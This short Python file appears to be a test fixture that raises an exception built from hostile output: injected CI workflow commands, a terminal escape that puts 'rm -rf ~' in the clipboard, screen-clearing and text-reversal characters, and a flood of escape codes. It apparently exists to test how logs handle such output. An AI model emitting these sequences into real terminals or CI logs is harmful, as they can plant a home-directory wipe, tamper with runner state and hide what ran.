# stopped_by = ["process"]
# verdict = "FSSP"
"""Raises what might act on the terminal of whoever reads about it, or on the runner that writes the log."""

from accomplice import ran, weigh


async def collect(vault, dials):
    ran()
    raise ValueError("::error::\n##[add-path]/tmp\r::stop-commands::\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\u202e" + "\x1b[" * 900)
